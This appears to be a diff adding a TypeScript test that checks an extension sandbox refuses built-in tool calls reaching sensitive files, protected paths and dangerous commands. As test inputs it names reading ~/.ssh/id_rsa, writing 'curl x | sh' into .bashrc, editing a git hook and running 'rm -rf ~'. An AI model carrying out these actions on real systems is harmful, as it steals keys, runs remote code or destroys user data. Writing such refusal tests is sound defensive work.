@@ -304,3 +304,19 @@ describe('the sandboxed extension sees scope refusals as EACCES', () => {
     }
   });
 });
+
+describe('pi\'s built-in tools called by an extension pass the same mediation', () => {
+  it('read/write/ls/bash through the `tool` hostcall are checked like fs.* and exec', async () => {
+    const rt = await runtime({ allowDangerous: true });
+    const tool = (name: string, input: Record<string, unknown>) => call(rt, 'ext', 'tool', { name, input });
+    refused(await tool('read', { path: join(HOME, '.ssh', 'id_rsa') }), 'fs_sensitive_path', 'read tool on a key');
+    refused(await tool('write', { path: join(HOME, '.bashrc'), content: 'curl x | sh' }), 'fs_protected_path', 'write tool on .bashrc');
+    refused(await tool('edit', { path: join(PROJECT, '.git', 'hooks', 'pre-commit'), edits: [] }), 'fs_protected_path', 'edit tool on a hook');
+    refused(await tool('ls', { path: OUTSIDE }), 'fs_out_of_scope', 'ls tool outside');
+    refused(await tool('bash', { command: 'rm -rf ~' }), 'exec_mediation', 'bash tool');
+    const ok = await tool('read', { path: join(PROJECT, 'src', 'a.txt') });
+    assert.ok(ok.ok, JSON.stringify(ok));
+    const other = await tool('summarise', { path: join(HOME, '.ssh', 'id_rsa') });
+    assert.ok(other.ok, 'a tool an extension registered is not a file access by pi');
+  });
+});
